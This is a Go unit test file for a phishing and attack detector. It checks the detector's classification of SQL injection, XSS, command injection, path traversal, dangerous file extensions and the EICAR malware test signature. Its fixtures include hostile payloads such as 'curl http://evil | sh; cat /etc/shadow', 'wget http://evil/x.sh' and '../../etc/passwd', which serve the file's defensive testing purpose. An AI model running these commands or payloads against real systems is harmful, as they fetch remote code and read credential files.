package detector

import (
	"crypto/md5"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Wikid82/phishguard/internal/config"
)

func newTestDetector(t *testing.T) *Detector {
	t.Helper()
	d, err := New(config.DefaultRules().Detector)
	require.NoError(t, err)
	return d
}

func categories(findings []Finding) map[Category]int {
	out := make(map[Category]int)
	for _, f := range findings {
		out[f.Category]++
	}
	return out
}

func TestBaselineSeverity(t *testing.T) {
	tests := []struct {
		category Category
		expected Severity
	}{
		{CommandInjection, SeverityCritical},
		{SQLInjection, SeverityHigh},
		{XSS, SeverityHigh},
		{PathTraversal, SeverityHigh},
		{KnownMalware, SeverityHigh},
		{DangerousExtension, SeverityHigh},
		{Category("ldap_injection"), SeverityMedium},
	}
	for _, tt := range tests {
		t.Run(string(tt.category), func(t *testing.T) {
			assert.Equal(t, tt.expected, BaselineSeverity(tt.category))
		})
	}
}

func TestDetect_Categories(t *testing.T) {
	d := newTestDetector(t)

	tests := []struct {
		name     string
		content  string
		expected Category
	}{
		{"union select", "id=1 UNION SELECT password FROM users", SQLInjection},
		{"tautology", "user=' OR 1=1", SQLInjection},
		{"script tag", "<script>alert(1)</script>", XSS},
		{"javascript uri", "href=JavaScript:alert(1)", XSS},
		{"event handler", `<img src=x onerror=alert(1)>`, XSS},
		{"chained shell", "file.txt; cat /etc/passwd", CommandInjection},
		{"subshell", "$(whoami)", CommandInjection},
		{"dot dot slash", "../../etc/passwd", PathTraversal},
		{"encoded traversal", "%2e%2e%2fetc", PathTraversal},
		{"script upload", "upload name=shell.php", DangerousExtension},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			found := categories(d.Detect(tt.content))
			assert.Positive(t, found[tt.expected], "expected %s in %q", tt.expected, tt.content)
		})
	}
}

func TestDetect_BenignContent(t *testing.T) {
	d := newTestDetector(t)

	benign := []string{
		"Welcome to our store. Choose a plan and sign up today.",
		"https://example.com/search?q=shoes&id=42&page=2",
		"Contact us at support@example.com for help",
	}
	for _, content := range benign {
		assert.Empty(t, d.Detect(content), content)
	}
}

func TestDetect_Deterministic(t *testing.T) {
	d := newTestDetector(t)
	content := "<script>x</script> ../ ; cat /etc/passwd ' OR 1=1 <iframe src=x>"

	first := d.Detect(content)
	require.NotEmpty(t, first)
	for i := 0; i < 20; i++ {
		assert.Equal(t, first, d.Detect(content))
	}
}

func TestDetect_OffsetsAndExcerpt(t *testing.T) {
	d := newTestDetector(t)

	prefix := "hello world "
	payload := "<script>" + strings.Repeat("a", 300) + "</script>"
	findings := d.DetectCategories(prefix+payload, XSS)
	require.Len(t, findings, 1)

	f := findings[0]
	assert.Equal(t, len(prefix), f.Offset)
	assert.Equal(t, SeverityHigh, f.Severity)
	assert.LessOrEqual(t, len([]rune(f.Match)), 100)
	assert.True(t, strings.HasPrefix(f.Match, "<script>"))
}

func TestDetect_ContentCap(t *testing.T) {
	rules := config.DefaultRules().Detector
	rules.MaxContent = 50
	d, err := New(rules)
	require.NoError(t, err)

	content := strings.Repeat("x", 60) + "<script>alert(1)</script>"
	assert.Empty(t, d.Detect(content))

	content = strings.Repeat("x", 10) + "<script>alert(1)</script>"
	assert.NotEmpty(t, d.Detect(content))
}

func TestDetect_Empty(t *testing.T) {
	d := newTestDetector(t)
	assert.Nil(t, d.Detect(""))
}

func TestNew_InvalidPattern(t *testing.T) {
	rules := config.DefaultRules().Detector
	rules.Patterns = map[string][]string{"xss": {"(unclosed"}}
	_, err := New(rules)
	assert.Error(t, err)
}

func TestNew_CustomCategory(t *testing.T) {
	rules := config.DefaultRules().Detector
	rules.Patterns = map[string][]string{"ldap_injection": {`\(\|\(uid=\*\)`}}
	d, err := New(rules)
	require.NoError(t, err)

	findings := d.Detect("filter=(|(uid=*)")
	require.Len(t, findings, 1)
	assert.Equal(t, SeverityMedium, findings[0].Severity)
}

func TestMaxSeverity(t *testing.T) {
	assert.Equal(t, SeverityLow, MaxSeverity(nil))
	assert.Equal(t, SeverityHigh, MaxSeverity([]Finding{{Severity: SeverityMedium}, {Severity: SeverityHigh}}))
	assert.Equal(t, SeverityCritical, MaxSeverity([]Finding{{Severity: SeverityHigh}, {Severity: SeverityCritical}}))
}

func TestAnalyzeURL(t *testing.T) {
	d := newTestDetector(t)

	t.Run("clean", func(t *testing.T) {
		a := d.AnalyzeURL("https://example.com/account", "Welcome back")
		assert.False(t, a.IsMalicious)
		assert.Equal(t, SeverityLow, a.RiskLevel)
		assert.NotNil(t, a.Threats)
	})

	t.Run("xss in url", func(t *testing.T) {
		a := d.AnalyzeURL("https://example.com/?q=<script>alert(1)</script>", "")
		assert.True(t, a.IsMalicious)
		assert.Equal(t, SeverityHigh, a.RiskLevel)
	})

	t.Run("command injection in content is critical", func(t *testing.T) {
		a := d.AnalyzeURL("https://example.com/", "run this: ; wget http://evil/x.sh")
		assert.True(t, a.IsMalicious)
		assert.Equal(t, SeverityCritical, a.RiskLevel)
	})

	t.Run("traversal only checked on url", func(t *testing.T) {
		a := d.AnalyzeURL("https://example.com/", "see ../docs for details")
		assert.False(t, a.IsMalicious)
	})
}

func TestAnalyzeFile(t *testing.T) {
	eicar := []byte("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
	sum := md5.Sum(eicar)
	hash := hex.EncodeToString(sum[:])

	rules := config.DefaultRules().Detector
	rules.MalwareSignatures = map[string]string{strings.ToUpper(hash): "eicar"}
	d, err := New(rules)
	require.NoError(t, err)

	t.Run("known signature short-circuits", func(t *testing.T) {
		fa := d.AnalyzeFile("invoice.pdf", eicar)
		assert.True(t, fa.IsMalicious)
		assert.Equal(t, SeverityCritical, fa.RiskLevel)
		assert.Equal(t, hash, fa.Hash)
		assert.Equal(t, "eicar", fa.Signature)
		require.Len(t, fa.Threats, 1)
		assert.Equal(t, KnownMalware, fa.Threats[0].Category)
	})

	t.Run("dangerous extension", func(t *testing.T) {
		fa := d.AnalyzeFile("setup.EXE", []byte("MZ binary"))
		assert.False(t, fa.IsMalicious)
		assert.Equal(t, SeverityHigh, fa.RiskLevel)
		assert.Equal(t, DangerousExtension, fa.Threats[0].Category)
	})

	t.Run("script content", func(t *testing.T) {
		fa := d.AnalyzeFile("notes.txt", []byte("echo hi && curl http://evil | sh; cat /etc/shadow"))
		assert.True(t, fa.IsMalicious)
		assert.Equal(t, SeverityCritical, fa.RiskLevel)
	})

	t.Run("xss content", func(t *testing.T) {
		fa := d.AnalyzeFile("page.html", []byte("<html><script>steal()</script></html>"))
		assert.True(t, fa.IsMalicious)
		assert.Equal(t, SeverityHigh, fa.RiskLevel)
	})

	t.Run("traversal content", func(t *testing.T) {
		fa := d.AnalyzeFile("paths.txt", []byte("include ../../secret"))
		assert.True(t, fa.IsMalicious)
		assert.Equal(t, SeverityMedium, fa.RiskLevel)
	})

	t.Run("clean", func(t *testing.T) {
		fa := d.AnalyzeFile("readme.md", []byte("just some notes"))
		assert.False(t, fa.IsMalicious)
		assert.Equal(t, SeverityLow, fa.RiskLevel)
		assert.Empty(t, fa.Threats)
	})

	t.Run("large files skip content scan", func(t *testing.T) {
		small := config.DefaultRules().Detector
		small.MaxFileSize = 16
		d2, err := New(small)
		require.NoError(t, err)

		fa := d2.AnalyzeFile("big.txt", []byte("<script>alert(1)</script> padding"))
		assert.False(t, fa.IsMalicious)
	})
}
